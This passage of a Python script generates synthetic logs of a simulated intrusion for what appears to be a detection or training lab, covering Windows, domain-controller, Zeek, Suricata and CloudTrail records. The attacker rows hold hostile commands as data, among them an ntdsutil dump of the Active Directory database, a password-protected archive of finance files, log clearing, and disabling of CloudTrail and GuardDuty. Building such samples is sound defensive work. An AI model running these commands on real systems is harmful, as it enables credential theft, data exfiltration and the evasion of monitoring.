            data = logon_data("SYSTEM", 5, "0x3e7", process=SERVICES, package="Negotiate", user_sid="S-1-5-18")
            data.update(pairs("SubjectUserSid=S-1-5-18 SubjectUserName=WKS07$ SubjectDomainName=CORP SubjectLogonId=0x3e7 LogonProcessName=Advapi "
                              "KeyLength=0 WorkstationName=-"), TargetDomainName="NT AUTHORITY")
            beat.add(ms, 4624, "Logon", data, message="An account was successfully logged on.")
            data = pairs("SubjectUserSid=S-1-5-18 SubjectUserName=SYSTEM SubjectLogonId=0x3e7", SubjectDomainName="NT AUTHORITY",
                         PrivilegeList="SeAssignPrimaryTokenPrivilege SeTcbPrivilege SeSecurityPrivilege SeDebugPrivilege")
            beat.add(ms + 5, 4672, "Special Logon", data, message="Special privileges assigned to new logon.")
        else:
            beat.add(ms, 4624, "Logon", logon_data("j.ward", 7, logon_id), message="An account was successfully logged on.")
            data = pairs(f"TargetUserSid={sid('j.ward')} TargetUserName=j.ward TargetDomainName=CORP TargetLogonId={logon_id} LogonType=7")
            beat.add(ms + 90000, 4634, "Logoff", data, message="An account was logged off.")
    for ms in times(rng, 8):
        beat.script_block(ms, "C:\\Program Files\\Inventory\\collect.ps1",
                          "Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime")

def attack_winlogbeat(beat, _):
    beat.script_block(at("08:52:20"), "", STAGER, True)
    content = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
               "  <Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2026-11-03T09:14:00</StartBoundary></TimeTrigger></Triggers>\r\n"
               '  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>\r\n'
               f'  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>{STAGER_COMMAND.split(" ", 1)[1]}</Arguments></Exec></Actions>\r\n</Task>')
    data = pairs(f"SubjectUserSid={sid('j.ward')} SubjectUserName=j.ward SubjectDomainName=CORP SubjectLogonId=0x7a31c", TaskName="\\OneDrive Reporting Task",
                 TaskContent=content, **pairs(f"ClientProcessStartKey=4785074604083123 ClientProcessId=8470 ParentProcessId=8322 RpcCallClientLocality=0 FQDN={WKS_HOST}"))
    beat.add(at("09:14:06"), 4698, "Other Object Access Events", data, True, message="A scheduled task was created.")

# ------------------------------------------------------------------ dc01: events as XML, one to a line
class EventXml:
    def __init__(self, log):
        self.log = log

    @staticmethod
    def escape(text):
        return str(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&apos;")

    def add(self, ms, event_id, data, attack=False, task=12544, keywords="0x8020000000000000", channel="Security", level=0, version=0,
            provider="Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'", qualifiers="", user_data=None):
        body = user_data or "<EventData>" + "".join(f"<Data Name='{k}'>{self.escape(v)}</Data>" for k, v in data.items()) + "</EventData>"
        self.log.add(ms, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
                     f"<Provider {provider}/><EventID{qualifiers}>{event_id}</EventID><Version>{version}</Version><Level>{level}</Level>"
                     f"<Task>{task}</Task><Opcode>0</Opcode><Keywords>{keywords}</Keywords><TimeCreated SystemTime='{iso(ms, 7)}Z'/>"
                     f"<EventRecordID>{RECORD}</EventRecordID><Correlation/><Execution ProcessID='712' ThreadID='{780 + ms % 9}'/>"
                     f"<Channel>{channel}</Channel><Computer>{DC_HOST}</Computer><Security/></System>{body}</Event>", attack)

    def logon(self, ms, user, ip, logon_id, attack=False, package="Kerberos"):
        self.add(ms, 4624, logon_data(user, 3, logon_id, ip, package=package), attack, version=3)

    def ticket(self, ms, user, service, ip, encryption="0x12", attack=False):
        self.add(ms, 4769, pairs(
            f"TargetUserName={user}@CORP.EXAMPLE.COM TargetDomainName=CORP.EXAMPLE.COM ServiceName={service} ServiceSid={sid(service)} TicketOptions=0x40810000 "
            f"TicketEncryptionType={encryption} IpAddress=::ffff:{ip} IpPort={49900 + ms % 900} Status=0x0 LogonGuid={{{guid(user, service).upper()}}} "
            "TransmittedServices=-"), attack, task=14337)

    def pre_authentication(self, ms, event_id, user, ip, status, middle, attack=False, keywords="0x8020000000000000"):
        self.add(ms, event_id, pairs(
            f"TargetUserName={user} TargetSid={sid(user)} {middle} TicketOptions=0x40810010 Status={status} PreAuthType=2 IpAddress=::ffff:{ip} "
            f"IpPort={50100 + ms % 700} CertIssuerName= CertSerialNumber= CertThumbprint="), attack, task=14339, keywords=keywords)

    def refused(self, ms, user, ip, attack=False):
        self.pre_authentication(ms, 4771, user, ip, "0x18", "ServiceName=krbtgt/CORP", attack, "0x8010000000000000")

    def service(self, ms, name, path, attack=False):
        self.add(ms, 7045, {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "demand start",
                            "AccountName": "LocalSystem"}, attack, task=0, keywords="0x8080000000000000", channel="System", level=4,
                 provider="Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' EventSourceName='Service Control Manager'",
                 qualifiers=" Qualifiers='16384'")

def background_dc(xml, rng):
    machines = [("WKS%02d$" % n, f"10.20.30.{40 + n}") for n in range(1, 24)] + [("FS01$", FS01), ("WEB02$", "10.20.20.16")]
    people = list(zip(USERS[:14], [ip for _, ip in machines[:14]]))
    people[0] = ("j.ward", WKS07)
    for n, ms in enumerate(times(rng, 105)):
        user, ip = rng.pick(machines + people)
        logon_id = f"0x{0x3a10000 + n * 1361:x}"
        xml.logon(ms, user, ip, logon_id)
        if rng.chance(60):
            later = min(ms + rng.between(9000, 90000), at(END) - 1)
            xml.add(later, 4634, pairs(f"TargetUserSid={sid(user)} TargetUserName={user} TargetDomainName=CORP TargetLogonId={logon_id} LogonType=3"), task=12545)
    for ms in times(rng, 80):
        user, ip = rng.pick(machines + people)
        xml.ticket(ms, user, rng.pick(["DC01$", "FS01$", "krbtgt", "MAIL01$", "svc_sql"]), ip)
    for ms in times(rng, 5):
        user, ip = rng.pick(people)
        xml.refused(ms, user, ip)
    for ms in times(rng, 26):
        user, ip = rng.pick(people)
        xml.add(ms, 4776, pairs(f"PackageName=MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 TargetUserName={user} Workstation=MAIL01 Status=0x0"), task=14336)
    xml.service(at("08:20:10"), "Microsoft Update Health Service", '"C:\\Program Files\\Microsoft Update Health Tools\\uhssvc.exe"')

def attack_dc(xml, _):
    for n, user in enumerate(USERS[1:15]):
        xml.refused(at("09:20:05") + n * 9000, user, WKS07, True)
    ms = at("09:22:31")
    xml.pre_authentication(ms, 4768, "svc_backup", WKS07, "0x0",
                           f"TargetDomainName=CORP ServiceName=krbtgt ServiceSid={SID}-502 TicketEncryptionType=0x12", True)
    xml.logon(ms + 220, "svc_backup", WKS07, "0x5a419bc", True)
    for n, service in enumerate(["svc_sql", "svc_report", "svc_web", "svc_sharepoint", "svc_print", "svc_scan"]):
        xml.ticket(at("09:28:10") + n * 420, "svc_backup", service, WKS07, "0x17", True)
    xml.logon(at("09:41:09"), "svc_backup", WKS07, "0x5b02e41", True)
    for n in range(4):
        right = "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2" if n else "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"
        xml.add(at("09:41:10") + n * 350, 4662, pairs(
            f"SubjectUserSid={sid('svc_backup')} SubjectUserName=svc_backup SubjectDomainName=CORP SubjectLogonId=0x5b02e41 ObjectServer=DS "
            "ObjectType=%{19195a5b-6da0-11d0-afd3-00c04fd930c9} ObjectName=%{2f1c9a4e-8f0d-4f7b-9d0e-5a9b5a1c7b11}", OperationType="Object Access",
            HandleId="0x0", AccessList="%%7688 ", AccessMask="0x100", Properties=f"%%7688 {{{right}}} {{19195a5b-6da0-11d0-afd3-00c04fd930c9}}",
            AdditionalInfo="-", AdditionalInfo2=""), True, task=14080)
    admin = "Administrator"
    xml.logon(at("09:49:58"), admin, WKS07, "0x5c118a0", True, package="NTLM")
    xml.add(at("09:50:00"), 5145, pairs(
        f"SubjectUserSid={sid(admin)} SubjectUserName={admin} SubjectDomainName=CORP SubjectLogonId=0x5c118a0 ObjectType=File IpAddress={WKS07} IpPort=51990 "
        "ShareName=\\\\*\\ADMIN$ ShareLocalPath=\\??\\C:\\Windows RelativeTargetName=kTzQwLpR.exe AccessMask=0x2 AccessList=%%4417 AccessReason=-"), True, task=12811)
    xml.service(at("09:50:02"), "kTzQ", "%SystemRoot%\\kTzQwLpR.exe", True)
    for clock, image, command, parent in [
            ("09:50:40", CMD, "cmd.exe", "C:\\Windows\\kTzQwLpR.exe"),
            ("09:52:10", "C:\\Windows\\System32\\ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\n" q q', CMD),
            ("09:57:30", "C:\\ProgramData\\7z.exe", "7z.exe a -t7z -pQ2xv81 -mhe=on -v400m C:\\ProgramData\\d.7z C:\\ProgramData\\n D:\\Finance", CMD)]:
        data = pairs(f"SubjectUserSid=S-1-5-18 SubjectUserName=DC01$ SubjectDomainName=CORP SubjectLogonId=0x3e7 NewProcessId=0x{0x1a00 + len(command):x} "
                     f"NewProcessName={image} TokenElevationType=%%1936 ProcessId=0x19c4", CommandLine=command)
        data.update(pairs("TargetUserSid=S-1-0-0 TargetUserName=- TargetDomainName=- TargetLogonId=0x0 MandatoryLabel=S-1-16-16384", ParentProcessName=parent))
        xml.add(at(clock), 4688, data, True, task=13312, version=2)
    cleared = "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>{}</LogFileCleared></UserData>"
    who = f"<SubjectUserName>{admin}</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName>"
    for clock, channel, event_id, keywords, text in [
            ("10:05:12", "Security", 1102, "0x4020000000000000", f"<SubjectUserSid>{sid(admin)}</SubjectUserSid>{who}<SubjectLogonId>0x5c118a0</SubjectLogonId>"),
            ("10:05:14", "System", 104, "0x8000000000000000", who + "<Channel>System</Channel><BackupPath></BackupPath>")]:
        xml.add(at(clock), event_id, {}, True, task=104, channel=channel, level=4, keywords=keywords, user_data=cleared.format(text),
                provider="Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'")

# ------------------------------------------------------------------ sensor: Zeek conn.log and dns.log
CONN_FIELDS = ("ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port proto:enum service:string duration:interval "
               "orig_bytes:count resp_bytes:count conn_state:string local_orig:bool local_resp:bool missed_bytes:count history:string "
               "orig_pkts:count orig_ip_bytes:count resp_pkts:count resp_ip_bytes:count tunnel_parents:set[string]")
DNS_FIELDS = ("ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port proto:enum trans_id:count rtt:interval "
              "query:string qclass:count qclass_name:string qtype:count qtype_name:string rcode:count rcode_name:string AA:bool TC:bool "
              "RD:bool RA:bool Z:count answers:vector[string] TTLs:vector[interval] rejected:bool")

def zeek_stream(path, name, fields):
    names, types = zip(*(f.split(":") for f in fields.split()))
    head = ("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
            f"#path\t{name}\n#open\t2026-11-03-08-00-00\n#fields\t" + "\t".join(names) + "\n#types\t" + "\t".join(types) + "\n")
    return Stream(path, head, "#close\t2026-11-03-11-00-00\n")

def conn(rng, ms, src, dst, port, sent=0, received=0, seconds=0.0, service="-", state="SF", proto="tcp"):
    answered = state == "SF"
    packets = sent // 1400 + 4 if answered else 1
    back = received // 1400 + 3 if answered else (1 if state == "REJ" else 0)
    history = {"SF": "ShADadFf" if proto == "tcp" else "Dd", "S0": "S", "REJ": "Sr"}[state]
    local = ["T" if ip.startswith("10.") else "F" for ip in (src, dst)]
    return "\t".join(map(str, [
        f"{ms // 1000}.{ms % 1000:03d}{rng.between(0, 999):03d}", "C" + rng.letters(17), src, rng.between(49152, 65000), dst, port, proto, service,
        f"{seconds:.6f}" if answered else "-", sent if answered else "-", received if answered else "-", state, *local, 0, history, packets, sent + packets * 40, back, received + back * 40, "-"]))

def dns(rng, ms, src, query, kind="A", answers=("192.0.2.80",), rcode=0):
    code = {"A": 1, "AAAA": 28, "TXT": 16, "SRV": 33, "PTR": 12}[kind]
    return "\t".join(map(str, [
        f"{ms // 1000}.{ms % 1000:03d}{rng.between(0, 999):03d}", "C" + rng.letters(17), src, rng.between(49152, 65000), DC01, 53, "udp", rng.between(1, 65535),
        f"0.0{rng.between(10000, 89999)}", query, 1, "C_INTERNET", code, kind, rcode, "NOERROR" if rcode == 0 else "NXDOMAIN", "F", "F", "T", "T", 0,
        ",".join(answers) if answers else "-", ",".join(["300.000000"] * len(answers)) if answers else "-", "F"]))

def background_zeek(conns, names, rng):
    clients = [f"10.20.30.{n}" for n in range(41, 64)]
    for ms in times(rng, 360):
        conns.add(ms, conn(rng, ms, rng.pick(clients), f"192.0.2.{rng.between(81, 110)}", 443, rng.between(900, 40000), rng.between(3000, 900000),
                           rng.between(1, 90) + 0.25, "ssl"))
    for ms in times(rng, 90):
        port, service = rng.pick([(445, "gssapi,smb,krb"), (88, "krb_tcp"), (389, "ldap_tcp"), (135, "dce_rpc")])
        conns.add(ms, conn(rng, ms, rng.pick(clients), FS01 if port == 445 else DC01, port, rng.between(600, 9000), rng.between(600, 90000),
                           rng.between(1, 20) + 0.5, service))
    for ms in times(rng, 60):
        conns.add(ms, conn(rng, ms, f"192.0.2.{rng.between(20, 240)}", WEB01, 80, rng.between(700, 4000), rng.between(4000, 300000), 3.75, "http"))
    for ms in times(rng, 370):
        site = rng.pick(SITES)
        names.add(ms, dns(rng, ms, rng.pick(clients + [WEB01, FS01]), site, rng.pick(["A", "A", "AAAA"]), (f"192.0.2.{80 + len(site)}",)))
    for ms in times(rng, 30):
        names.add(ms, dns(rng, ms, rng.pick(clients), rng.pick(["_ldap._tcp.dc._msdcs.corp.example.com", "_kerberos._tcp.corp.example.com"]), "SRV",
                          (DC_HOST,)))
    for ms in times(rng, 18):
        names.add(ms, dns(rng, ms, rng.pick(clients), rng.pick(["wpad.corp.example.com", "printer-old.corp.example.com"]), "A", (), 3))

def attack_zeek(conns, names, rng):
    for clock, args in [("08:02:10", (INTRUDER, WEB01, 80, 21800, 31200, 66.0, "http")), ("08:09:00", (INTRUDER, WEB01, 80, 4100, 9800, 45.3, "http")),
                        ("08:14:50", (INTRUDER, WEB01, 80, 9400, 2100, 51.2, "http")), ("08:16:04", (INTRUDER, WEB01, 80, 3900, 15200, 296.4, "http")),
                        ("08:20:50", (WEB01, C2, 80, 160, 812000, 2.1, "http")), ("08:21:01", (WEB01, C2, 443, 2900, 7100, 610.0, "ssl")),
                        ("08:29:14", (INTRUDER, WEB01, 22, 9100, 14200, 820.0, "ssh")), ("08:47:20", (WEB01, MAIL, 25, 412000, 900, 2.2, "smtp")),
                        ("08:52:21", (WKS07, C2, 80, 210, 48200, 0.8, "http")), ("09:41:09", (WKS07, DC01, 49664, 7800, 92000, 1.9, "dce_rpc")), ("09:49:59", (WKS07, DC01, 445, 911000, 8800, 31.0, "gssapi,smb"))]:
        ms = at(clock)
        conns.add(ms, conn(rng, ms, *args), True)
    for n in range(24):
        ms = at("08:54:40") + n * 300000 + rng.between(0, 20000)
        conns.add(ms, conn(rng, ms, WKS07, C2, 443, rng.between(900, 1500), rng.between(600, 5200), 1.1, "ssl"), True)
    for n in range(30):
        ms = at("09:16:04") + n * 700
        conns.add(ms, conn(rng, ms, WKS07, f"10.20.10.{10 + n}", 445, state="SF" if n in (1, 20) else rng.pick(["S0", "S0", "REJ"]),
                           sent=900 if n in (1, 20) else 0, received=1200 if n in (1, 20) else 0, service="gssapi,smb" if n in (1, 20) else "-"), True)
    for n in range(40):
        ms = at("10:20:02") + n * 5200
        names.add(ms, dns(rng, ms, WKS07, f"{digest('tunnel', n)[:50]}.{TUNNEL}", "TXT", ("TXT 4 b2s=",)), True)
    for clock, sent in [("10:31:12", 419430400), ("10:36:40", 419430400), ("10:41:55", 361758720)]:   # three parts of the archive
        conns.add(at(clock), conn(rng, at(clock), DC01, DROP, 443, sent, 92000, 290.5, "ssl"), True)

# ------------------------------------------------------------------ sensor: Suricata eve.json
def eve(ms, kind, src, sport, dst, dport, proto="TCP", **fields):
    event = {"timestamp": iso(ms, 6) + "+0000", "flow_id": int(digest(src, sport, dst, dport)[:13], 16), "in_iface": "ens5", "event_type": kind,
             "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto}
    event.update(fields)
    return dumps(event)

def eve_alert(ms, src, sport, dst, dport, sid, signature, category, severity, app):
    return eve(ms, "alert", src, sport, dst, dport, alert={"action": "allowed", "gid": 1, "signature_id": sid, "rev": 1, "signature": signature,
               "category": category, "severity": severity}, app_proto=app, flow={"pkts_toserver": 6, "pkts_toclient": 5, "bytes_toserver": 1180,
               "bytes_toclient": 2210, "start": iso(ms - 900, 6) + "+0000"})

def background_eve(log, rng):
    clients = [f"10.20.30.{n}" for n in range(41, 64)]
    for ms in times(rng, 90):
        site, client = rng.pick(SITES), rng.pick(clients)
        log.add(ms, eve(ms, "tls", client, rng.between(49152, 65000), f"192.0.2.{80 + len(site)}", 443,
                        tls={"subject": "CN=" + site, "issuerdn": "C=XX, O=Example Trust, CN=Example TLS CA 2", "sni": site, "version": "TLS 1.3"}))
    for ms in times(rng, 60):
        site, client = rng.pick(SITES), rng.pick(clients)
        log.add(ms, eve(ms, "dns", client, rng.between(49152, 65000), DC01, 53, "UDP",
                        dns={"type": "query", "id": rng.between(1, 65535), "rrname": site, "rrtype": "A", "tx_id": 0}))
    for ms in times(rng, 30):
        log.add(ms, eve(ms, "http", f"192.0.2.{rng.between(20, 240)}", rng.between(30000, 65000), WEB01, 80,
                        http={**pairs("hostname=shop.example.com url=/ http_content_type=text/html http_method=GET protocol=HTTP/1.1"),
                              "http_user_agent": CHROME, "status": 200, "length": 18230}))
    for ms in times(rng, 16):
        log.add(ms, eve_alert(ms, f"198.51.100.{rng.between(130, 250)}", rng.between(30000, 65000), WEB01, 22, 9000201,
                              "LOCAL SCAN SSH connection from uncommon network", "Attempted Information Leak", 3, "ssh"))

def attack_eve(log, _):
    scan = (9000202, "LOCAL SCAN Web scanner user agent", "Detection of a Network Scan", 3, "http")
    sql = (9000103, "LOCAL WEB_SERVER SQL UNION SELECT in URL", "Web Application Attack", 1, "http")
    upload = (9000105, "LOCAL WEB_SERVER PHP code in uploaded image", "Web Application Attack", 1, "http")
    implant = (9000101, "LOCAL MALWARE TLS certificate of known implant framework", "Malware Command and Control Activity Detected", 1, "tls")
    for clock, alert in [("08:02:40", scan), ("08:02:52", scan), ("08:03:07", scan), ("08:09:05", sql), ("08:09:17", sql), ("08:09:29", sql), ("08:14:51", upload)]:
        log.add(at(clock), eve_alert(at(clock), INTRUDER, 40000 + at(clock) % 997, WEB01, 80, *alert), True)
    for clock, src, port in [("08:21:02", WEB01, 51020), ("08:55:02", WKS07, 50880), ("09:40:10", WKS07, 50961)]:
        log.add(at(clock), eve_alert(at(clock), src, port, C2, 443, *implant), True)

# ------------------------------------------------------------------ cloud: CloudTrail
def trail(ms, source, name, who, ip, agent, request=None, response=None, error=None, read=False, data=False):
    event = {"eventVersion": "1.09", "userIdentity": who, "eventTime": stamp(ms, "%Y-%m-%dT%H:%M:%SZ"), "eventSource": source + ".amazonaws.com",
             "eventName": name, "awsRegion": "us-east-1" if source == "iam" else "eu-west-1", "sourceIPAddress": ip, "userAgent": agent}
    if error:
        event.update(errorCode=error, errorMessage=f"User: {who['arn']} is not authorized to perform: {source}:{name}")
    event.update(requestParameters=request, responseElements=response, requestID=guid("r", ms, name, request), eventID=guid("e", ms, name, request),
                 readOnly=read, eventType="AwsApiCall", managementEvent=not data, recipientAccountId=ACCOUNT, eventCategory="Data" if data else "Management")
    return dumps(event)

def iam_user(name, key):
    return pairs(f"type=IAMUser principalId=AIDA{digest(name)[:10].upper()}EXAMPLE arn=arn:aws:iam::{ACCOUNT}:user/{name} accountId={ACCOUNT} "
                 f"accessKeyId={key} userName={name}")

def role(name, session):
    return pairs(f"type=AssumedRole principalId=AROA{digest(name)[:10].upper()}EXAMPLE:{session} arn=arn:aws:sts::{ACCOUNT}:assumed-role/{name}/{session} "
                 f"accountId={ACCOUNT} accessKeyId=ASIA{digest(name, session)[:9].upper()}EXAMPLE",
                 sessionContext={"sessionIssuer": pairs(f"type=Role arn=arn:aws:iam::{ACCOUNT}:role/{name} userName={name}")})

def background_trail(log, rng):
    app, monitor, admin = role("shop-api", "i-0abc1234def567890"), role("monitoring", "metrics"), role("Admin", "kurt.a@example.com")
    sdk, cli = "aws-sdk-java/2.28.1 Linux/6.1 OpenJDK_64-Bit_Server_VM/21", "aws-cli/2.18.5 md/awscrt#0.22.0 os/windows#10 cfg/retry-mode#standard"
    for n, ms in enumerate(times(rng, 110)):
        log.add(ms, trail(ms, "s3", "GetObject" if n % 3 else "PutObject", app, "10.20.40.12", sdk,
                          {"bucketName": "shop-media-example", "key": f"images/{rng.between(1, 400):04d}.jpg"}, None, None, n % 3 != 0, True))
    for ms in times(rng, 80):
        source, name = rng.pick([("ec2", "DescribeInstances"), ("ec2", "DescribeVolumes"), ("monitoring", "ListMetrics"), ("rds", "DescribeDBInstances"),
                                 ("elasticloadbalancing", "DescribeTargetHealth")])
        log.add(ms, trail(ms, source, name, monitor, "192.0.2.200", sdk, None, None, None, True))
    for ms in times(rng, 26):
        log.add(ms, trail(ms, "kms", "Decrypt", app, "10.20.40.12", sdk, {"encryptionAlgorithm": "SYMMETRIC_DEFAULT"}, None, None, True))
    for ms in times(rng, 10, "08:50:00", "10:30:00"):
        source, name = rng.pick([("iam", "ListRoles"), ("ec2", "DescribeSecurityGroups"), ("cloudwatch", "GetDashboard"), ("s3", "ListBuckets")])
        log.add(ms, trail(ms, source, name, admin, "192.0.2.210", cli, None, None, None, True))

def attack_trail(log, _):
    agent = "aws-cli/2.18.5 md/awscrt#0.22.0 ua/2.0 os/linux#6.1.0 lang/python#3.12.6 cfg/retry-mode#standard"
    user, fresh = iam_user("web-deploy", KEY_STOLEN), iam_user("svc-reporting", KEY_NEW)

    def call(clock, source, name, request=None, response=None, error=None, read=False, who=user):
        log.add(at(clock), trail(at(clock), source, name, who, INTRUDER, agent, request, response, error, read), True)

    call("08:40:12", "sts", "GetCallerIdentity", read=True)
    probes = [("secretsmanager", "ListSecrets"), ("ec2", "DescribeInstances"), ("ec2", "DescribeSnapshots"), ("rds", "DescribeDBInstances"),
              ("lambda", "ListFunctions20150331"), ("kms", "ListKeys"), ("organizations", "DescribeOrganization"), ("ssm", "DescribeParameters"),
              ("ecr", "DescribeRepositories")]
    for n, (source, name) in enumerate(probes):
        call(f"08:41:{n * 6:02d}", source, name, error="Client.UnauthorizedOperation" if source == "ec2" else "AccessDenied", read=True)
    call("08:43:30", "iam", "ListUsers", read=True)
    call("08:44:02", "s3", "ListBuckets", read=True)
    call("09:00:31", "iam", "CreateAccessKey", {"userName": "svc-reporting"},
         {"accessKey": {"userName": "svc-reporting", "accessKeyId": KEY_NEW, "status": "Active", "createDate": "Nov 3, 2026, 9:00:31 AM"}})
    call("09:04:10", "iam", "AttachUserPolicy", {"userName": "svc-reporting", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    call("10:12:07", "cloudtrail", "StopLogging", {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/org-trail"}, who=fresh)
    call("10:13:20", "guardduty", "DeleteDetector", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}, who=fresh)
    for n in range(48):
        ms = at("10:15:02") + n * 5000
        log.add(ms, trail(ms, "s3", "GetObject", fresh, INTRUDER, agent, {"bucketName": "corp-finance-archive-example", "key": f"2026/q3/ledger-{n:04d}.csv"},
                          None, None, True, True), True)

# ------------------------------------------------------------------ all together
def build():
    trail_log = Stream("cloud/cloudtrail.json", '{"Records":[\n', "]}\n", ",\n")
    conns, names = zeek_stream("sensor/conn.log", "conn", CONN_FIELDS), zeek_stream("sensor/dns.log", "dns", DNS_FIELDS)
    parts = [   # streams, what writes into them, background, attack
        ([Stream("web01/access.log")], None, background_access, attack_access),
        ([Stream("web01/audit.log", first_record=40101)], Audit, background_audit, attack_audit),
        ([Stream("web01/auth.log")], None, background_auth, attack_auth),
        ([Stream("wks07/sysmon.nxlog.ndjson", first_record=88201)], Sysmon, background_sysmon, attack_sysmon),
        ([Stream("wks07/security.winlogbeat.ndjson", first_record=512401)], Winlogbeat, background_winlogbeat, attack_winlogbeat),
        ([Stream("dc01/events.xml", first_record=7301101)], EventXml, background_dc, attack_dc),
        ([conns, names], None, background_zeek, attack_zeek),
        ([Stream("sensor/eve.json")], None, background_eve, attack_eve),
        ([trail_log], None, background_trail, attack_trail)]
    for number, (streams, writer, background, attack) in enumerate(parts):
        rng = Rng(20261103 + number)
        target = [writer(streams[0])] if writer else streams
        background(*target, rng)
        attack(*target, rng)
    return [stream for part in parts for stream in part[0]]

def main():
    here = pathlib.Path(__file__).resolve().parent.parent
    options = argparse.ArgumentParser(description="Write the sample logs of one attack.")
    options.add_argument("--out", type=pathlib.Path, default=here / "content" / "samples" / "attack")
    options.add_argument("--check", action="store_true", help="compare with the files on disk, write nothing")
    args = options.parse_args()
    different = 0
    for stream in build():
        path, text = args.out / stream.path, stream.text().encode()
        hostile = sum(row[3] for row in stream.rows)
        if args.check:
            same = path.is_file() and path.read_bytes() == text
            different += not same
            print(f"{'same     ' if same else 'DIFFERENT'} {path}")
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(text)
            print(f"{stream.path:34} {len(stream.rows):5} lines, {hostile:4} of the intruder, {len(text):8} bytes")
    return 1 if different else 0

if __name__ == "__main__":
    sys.exit(main())
